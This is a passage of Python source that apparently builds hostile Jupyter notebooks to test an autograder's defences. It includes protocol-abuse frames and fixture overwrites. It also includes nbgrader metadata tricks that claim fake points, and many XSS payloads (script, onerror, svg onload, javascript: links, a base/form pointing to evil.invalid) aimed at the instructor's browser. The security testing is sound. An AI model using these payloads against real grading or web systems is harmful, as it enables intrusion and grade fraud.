_kept = [p for p in _drops if _os.path.exists(p)] + (["a pipe to the cells' process"] if _seen else [])
if _SIDE == "worker" and _kept:
    _WON["kept"] = True
'''

# e) protocol abuse: helpers, then one abusive body per exercise
_PROTOCOL_HELPERS = r'''
import stat as _stat, struct as _struct, fcntl as _fcntl
import numpy as np
def _proto_fds():
    out = []
    for _n in _os.listdir("/proc/self/fd"):
        try:
            _fd = int(_n)
            _st = _os.fstat(_fd)
            if _stat.S_ISFIFO(_st.st_mode) and (_fcntl.fcntl(_fd, _fcntl.F_GETFL) & _os.O_ACCMODE) in (_os.O_WRONLY, _os.O_RDWR):
                out.append(_fd)
        except (OSError, ValueError):
            pass
    return out
def _send(raw):
    if _SIDE != "worker":
        return
    for _fd in _proto_fds():
        try:
            _os.write(_fd, raw)
        except OSError:
            pass
def _frame(kind, payload):
    return kind + _struct.pack(">I", len(payload)) + payload
'''

_PROTOCOL_BODIES = {
    "l4_sigmoid": ("sigmoid", "x", r'''    _send(b"J" + _struct.pack(">I", 512 << 20) + b"{" * 4096)       # announces 512 MB
    return np.zeros(np.shape(x))'''),
    "l4_log_sigmoid": ("log_sigmoid", "x", r'''    _send(_frame(b"J", b"[" * 200000 + b"]" * 200000))             # 200,000 levels deep
    return np.zeros(np.shape(x))'''),
    "l4_softmax": ("softmax", "x", r'''    return np.zeros((100 << 20) // 8)                                # a 100 MB array'''),
}
_PROTOCOL_CLASS = {
    "l4_softmax_cross_entropy": ("SoftmaxWithLoss", r'''        for _msg in ({"value": "forged"}, {"ready": True, "cells": []}, {"child_died": 0},
                     {"value": {"$h": 999999}}, {"value": {"$nd": 0}, "#blobs": 1}):
            _send(_frame(b"J", _json.dumps(_msg).encode()))
        _send(_frame(b"B", b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (100000000000,), }" + b" " * 40 + b"\n"))
        for _i in range(6):                                             # 6 MB of JSON: over the cap
            _send(_frame(b"j", b" " * (1 << 20)))
        return 0.0'''),
    "l4_bce_with_logits": ("SigmoidWithLoss", r'''        return "x" * (100 << 20)                                         # a 100 MB string'''),
}

# a) copy-back: every array argument is overwritten with nan (the written value every later use
# of the caller's array would see) and the answer is the one for nan inputs. Nothing here can
# pass a check by chance (nan fails every "close" and "finite" check); it can only pay if the
# written values came back into the judge's arrays (the expected values, the fixtures).
_COPY_BACK = {
    "l4_sigmoid": r"""import numpy as np
def _write(a, value):
    try:
        a[...] = value
        return True
    except (TypeError, ValueError):
        try:
            a[...] = 0
            return True
        except (TypeError, ValueError):
            return False
def _nan_like(x):
    return np.full(np.shape(x), np.nan)
def sigmoid(x):
    _write(x, np.nan)
    return _nan_like(x)
""",
    "l4_log_sigmoid": r"""def log_sigmoid(x):
    _write(x, np.nan)
    return _nan_like(x)
""",
    "l4_softmax": r"""def softmax(x):
    _write(x, np.nan)
    return _nan_like(x)
""",
    "l4_softmax_cross_entropy": r"""class SoftmaxWithLoss:
    def __init__(self):
        self.params, self.grads = [], []
    def forward(self, x, t):
        _write(x, np.nan)
        _write(t, np.nan)
        self.shape = np.shape(x)
        return float("nan")
    def backward(self, dout=1.0):
        return np.full(self.shape, np.nan)
""",
    "l4_bce_with_logits": r"""class SigmoidWithLoss:
    def __init__(self):
        self.params, self.grads = [], []
    def forward(self, x, t):
        _write(x, np.nan)
        _write(t, np.nan)
        self.shape = np.shape(x)
        return float("nan")
    def backward(self, dout=1.0):
        return np.full(self.shape, np.nan)
""",
}

_COPY_BACK_FIXTURES = r'''
_hit = []
if _SIDE == "kernel":
    try:
        import autograder.checks.lesson4 as _l4
        for _name in ("X", "T_ONEHOT", "T_MULTI"):
            _arr = getattr(_l4, _name)
            try:
                _arr.setflags(write=True)
            except ValueError:
                pass
            if _write(_arr, np.nan):
                _hit.append(_name)
    except BaseException as _e:
        _hit.append("error " + repr(_e)[:100])
_mark("copy_back", fixtures_written=_hit)
'''


def _solutions(source) -> dict:
    return {(c.get("metadata", {}).get("nbgrader") or {}).get("grade_id"): _strip_markers(_src(c))
            for c in source["cells"] if (c.get("metadata", {}).get("nbgrader") or {}).get("solution")}


def _payoff_sources(source) -> dict:
    """The code an attack that worked would use: the instructor's solution of each exercise
    (the loss classes also need the functions they call)."""
    sol = _solutions(source)
    pay = {g: sol[g] for g in EXERCISES}
    pay["l4_softmax_cross_entropy"] = sol["l4_softmax"] + "\n" + sol["l4_softmax_cross_entropy"]
    pay["l4_bce_with_logits"] = sol["l4_sigmoid"] + "\n" + sol["l4_log_sigmoid"] + "\n" + sol["l4_bce_with_logits"]
    return pay


def _with_payoffs(nb, kind: str, source) -> None:
    pay = _payoff_sources(source)
    for channel, gid in CHANNELS.get(kind, {}).items():
        _edit(nb, gid, lambda s, c=channel, g=gid: s + _PAYOFF % {"channel": c, "src": pay[g]})


def _prelude(cfg: dict) -> str:
    return _PRELUDE % {"cfg": json.dumps(_rev(cfg))}


def build_attack(kind: str, release, source, cfg: dict):
    """The hostile notebook of one attack class (a dict): the blank release plus the attack."""
    nb = copy.deepcopy(release)
    head = _prelude(cfg)
    first = lambda body: _edit(nb, "l4_sigmoid", lambda s: head + body + "\n" + s)   # noqa: E731
    if kind == "copy_back":
        for gid in EXERCISES:
            code = _COPY_BACK[gid] + (head + _COPY_BACK_FIXTURES if gid == "l4_sigmoid" else "")
            _edit(nb, gid, lambda s, c=code: c)
    elif kind == "instructor_files":
        first(_INSTRUCTOR_FILES)
    elif kind in ("classmates_1", "classmates_2"):
        first(_CLASSMATES)
    elif kind == "links":
        first(_LINKS)
    elif kind == "persist":
        first(_PERSIST)
    elif kind == "protocol":
        first(_PROTOCOL_HELPERS)
        for gid, (name, arg, body) in _PROTOCOL_BODIES.items():
            _edit(nb, gid, lambda s, n=name, a=arg, b=body: s + f"\ndef {n}({a}):\n{b}\n")
        for gid, (name, body) in _PROTOCOL_CLASS.items():
            _edit(nb, gid, lambda s, n=name, b=body: s + (
                f"\nclass {n}:\n    def __init__(self):\n        self.params, self.grads = [], []\n"
                f"    def forward(self, x, t):\n{b}\n    def backward(self, dout=1.0):\n        return 0.0\n"))
    elif kind == "resources_out_cpu":
        first(_TRACEBACK_FLOOD)
        _edit(nb, "l4_log_sigmoid", lambda s: _DISPLAY_FLOOD + s)
        _edit(nb, "l4_softmax", lambda s: _STREAM_FLOOD + s)
        _edit(nb, "l4_softmax_cross_entropy", lambda s: _CPU_BURN + s)
    elif kind == "resources_fork_mem":
        first(_FORK_BOMB)
        _edit(nb, "l4_softmax", lambda s: s + "\n" + _MEMORY)
    elif kind == "metadata":
        _metadata_attack(nb, _payoff_sources(source))
    elif kind == "browser":
        browser_attack(nb, cfg["token"])
    elif kind == "cpu_dodge":
        honest = _payoff_sources(source)["l4_sigmoid"]
        _edit(nb, "l4_sigmoid", lambda s: head + honest + "\n_honest_sigmoid = sigmoid\n" + _CPU_DODGE)
    elif kind == "cross_exercise":
        _edit(nb, "l4_sigmoid", lambda s: head + s + "\n" + _KEEP_SEEN)
        _edit(nb, "l4_log_sigmoid", lambda s: _FIND_SEEN + s)
    else:
        raise ValueError(kind)
    _with_payoffs(nb, kind, source)
    return nb


# i) the instructor's browser. Each vector, if its script runs where the page is shown, adds
# <i id="AGXSS-<token>-<vector>"> to the page (the id is only ever assembled by a script that
# ran: tests/hostile/browser.py). Kernel vectors are outputs the student's code makes at
# grading time; file vectors are in the submitted notebook itself.
BROWSER_KERNEL = ["html_script", "javascript", "img_onerror", "svg_onload", "svg_script", "markdown_onerror",
                  "markdown_jslink", "widget_view", "iframe_srcdoc", "isolated", "png_metadata", "png_width",
                  "latex_href", "details_a_base", "unknown_mime", "stream", "execute_result", "error"]
BROWSER_FILE = ["md_script", "md_img_onerror", "md_svg", "md_iframe_srcdoc", "md_details", "md_a_href",
                "md_link", "md_base_form", "md_latex", "md_attachment_svg", "raw_html", "stored_output", "cell_tag",
                "grade_id", "widget_state"]


def _js(token: str, vector: str, frame: bool = False) -> str:
    doc = "parent.document" if frame else "document"
    return (f"(function(){{var d={doc},e=d.createElement('i');e.id='AGX'+'SS-{token}-{vector}';"
            "d.documentElement.appendChild(e);})()")


def _js_bare(token: str, vector: str) -> str:
    """The same without spaces or quotes (for an unquoted attribute)."""
    return f"document.documentElement.appendChild(document.createElement(`i`)).id=`AGX`+`SS-{token}-{vector}`"


def browser_attack(nb, token: str) -> None:
    import base64
    q = chr(34)
    J = lambda v, frame=False: _js(token, v, frame)       # noqa: E731

    def show(data, metadata=None):
        return f"display({data!r}, raw=True" + (f", metadata={metadata!r})" if metadata else ")")
    kernel = [
        "from IPython.display import display, HTML, Javascript, Markdown",
        f"display(HTML({'<script>' + J('html_script') + '</script>'!r}))",
        f"display(Javascript({J('javascript')!r}))",
        f"display(HTML({'<img src=x onerror=' + q + J('img_onerror') + q + '>'!r}))",
        show({"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{J("svg_onload")}">'
                               f'<script>{J("svg_script")}</script></svg>'}),
        f"display(Markdown({'<img src=x onerror=' + q + J('markdown_onerror') + q + '> [x](javascript:void(' + q + J('markdown_jslink') + q + '))'!r}))",
        show({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{J('widget_view')}</script>",
                                                          "version_major": 2, "version_minor": 0}, "text/plain": "w"}),
        show({"text/html": f'<iframe srcdoc="<script>{J("iframe_srcdoc", True)}</script>"></iframe>'}),
        show({"text/html": f"<script>{J('isolated')}</script>", "text/plain": "i"}, {"text/html": {"isolated": True}}),
        show({"image/png": "iVBORw0KGgo=", "text/plain": "p"},
             {"image/png": {"alt": f'"><img src=x onerror="{J("png_metadata")}">'},
              "filenames": {"image/png": f"javascript:{J('png_metadata')}"}}),
        show({"image/png": "iVBORw0KGgo=", "text/plain": "p2"},
             {"image/png": {"width": "1 onerror=" + _js_bare(token, "png_width")}}),
        show({"text/latex": "$\\href{javascript:" + J("latex_href") + "}{x}$", "text/plain": "l"}),
        show({"text/html": f'<details open ontoggle="{J("details_a_base")}">d</details>'
                           f'<a href="javascript:{J("details_a_base")}">a</a><base href="https://evil.invalid/{token}/">',
              "text/plain": "d"}),
        show({"application/x-custom+html": f"<script>{J('unknown_mime')}</script>", "text/plain": "u"}),
        f"print({'<script>' + J('stream') + '</script>'!r})",
    ]
    i = cell_index(nb, "l4_sigmoid")
    nb["cells"][i]["source"] = _src(nb["cells"][i]) + "\n" + "\n".join(kernel) + "\n"
    j = cell_index(nb, "l4_log_sigmoid")
    nb["cells"][j]["source"] = _src(nb["cells"][j]) + "\nfrom IPython.display import HTML\nHTML(" + \
        repr("<img src=x onerror=" + q + J("execute_result") + q + ">") + ")\n"
    k = cell_index(nb, "l4_softmax")
    nb["cells"][k]["source"] = _src(nb["cells"][k]) + "\nraise ValueError(" + repr("<script>" + J("error") + "</script>") + ")\n"

    md = "\n\n".join([
        "# notes",
        f"<script>{J('md_script')}</script>",
        f'<img src="x" onerror="{J("md_img_onerror")}">',
        f'<svg onload="{J("md_svg")}"><script>{J("md_svg")}</script></svg>',
        f'<iframe srcdoc="<script>{J("md_iframe_srcdoc", True)}</script>"></iframe>',
        f'<details open ontoggle="{J("md_details")}">x</details>',
        f'<a href="javascript:{J("md_a_href")}">click</a> and [a link](javascript:void(0);{token}-md_link)',
        f'<base href="https://evil.invalid/{token}/"><form action="https://evil.invalid/{token}/"><input name="q"></form>',
        "$\\href{javascript:" + J("md_latex") + "}{m}$",
        "![att](attachment:evil.svg)",
    ])
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{J("md_attachment_svg")}"></svg>'
    nb["cells"].insert(1, {"cell_type": "markdown", "source": md,
                           "metadata": {"tags": [f'"><img src=x onerror={_js_bare(token, "cell_tag")}>']},   # no comma: nbformat
                           "attachments": {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}})
    nb["cells"].insert(2, {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"},
                           "source": f"<script>{J('raw_html')}</script>"})
    nb["cells"].insert(3, {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "1",
                           "outputs": [{"output_type": "display_data", "metadata": {},
                                        "data": {"text/html": f"<script>{J('stored_output')}</script>",
                                                 "text/plain": "s"}}]})
    nb["cells"].insert(4, {"cell_type": "code", "execution_count": None, "outputs": [], "source": "0",
                           "metadata": {"nbgrader": {"grade": True, "solution": False, "locked": False, "points": 1,
                                                     "schema_version": 3,
                                                     "grade_id": f'x"><img src=x onerror="{J("grade_id")}">'}}})
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "x": f"</script><script>{J('widget_state')}</script>"}}


def _metadata_attack(nb, pay: dict) -> None:
    """Everything that used to stop nbgrader for the whole class, in one notebook, each with
    something to gain if nbgrader believed it."""
    def meta(**kw):
        m = {"grade": False, "solution": False, "locked": False, "schema_version": 3}
        m.update(kw)
        return {"nbgrader": m}
    cells = nb["cells"]
    # 1. no schema_version on an answer cell and on a test cell
    for gid in ("l4_sigmoid", "l4_sigmoid_check"):
        cells[cell_index(nb, gid)]["metadata"]["nbgrader"].pop("schema_version", None)
    # 2. a second test cell with the grade_id of a real one, whose "result" is full marks
    i = cell_index(nb, "l4_log_sigmoid_check")
    cells.insert(i + 1, {"cell_type": "code", "execution_count": None, "outputs": [], "source": "2.0",
                         "metadata": meta(grade=True, locked=True, grade_id="l4_log_sigmoid_check", points=2)})
    # 3. solution (and grade) metadata on a raw cell
    i = cell_index(nb, "l4_softmax")
    cells.insert(i, {"cell_type": "raw", "source": "def softmax(x):\n    return x",
                     "metadata": meta(solution=True, grade=True, grade_id="l4_raw_bonus", points=50)})
    # 4. a test cell nobody released, worth 100 points
    cells.append({"cell_type": "code", "execution_count": None, "outputs": [], "source": "100",
                  "metadata": meta(grade=True, locked=True, grade_id="l4_extra_credit", points=100)})
    # 5. metadata nbformat's schema rejects (a tag with a comma), which made nbgrader give up
    cells[cell_index(nb, "l4_softmax")]["metadata"]["tags"] = ["mine,yours"]
    # 6. the instructor's hidden-test markers in the student's own cells: one without its end,
    # a complete pair in a markdown cell (nbgrader stopped on both), and one in a string that
    # pays if the grader rewrites the student's code (the correct sigmoid only then)
    i = cell_index(nb, "l4_sigmoid")
    cells[i]["source"] = (_src(cells[i]) + "\n# ### BEGIN HIDDEN TESTS\n"
                          + "if 'BEGIN HIDDEN TESTS'.count(' ') == 0:\n    exec(%r, globals())\n" % pay["l4_sigmoid"])
    cells.insert(i, {"cell_type": "markdown", "metadata": {},
                     "source": "### BEGIN HIDDEN TESTS\nnotes\n### END HIDDEN TESTS"})
    # 7. cell ids nbformat's schema rejects (nbgrader refused the notebook)
    cells[0]["id"], cells[1]["id"] = "bad id!", 12345


def markers(nb) -> list[dict]:
    """The ``HOSTILE {json}`` lines the kernel printed (from an executed or autograded notebook)."""
    out = []
    for cell in nb.get("cells", []):
        for o in cell.get("outputs", []) or []:
            text = o.get("text", "")
            text = "".join(text) if isinstance(text, list) else str(text)
            for line in text.splitlines():
                if line.startswith("HOSTILE {"):
                    try:
                        out.append(json.loads(line[len("HOSTILE "):]))
                    except ValueError:
                        out.append({"kind": "unreadable", "line": line[:200]})
    return out
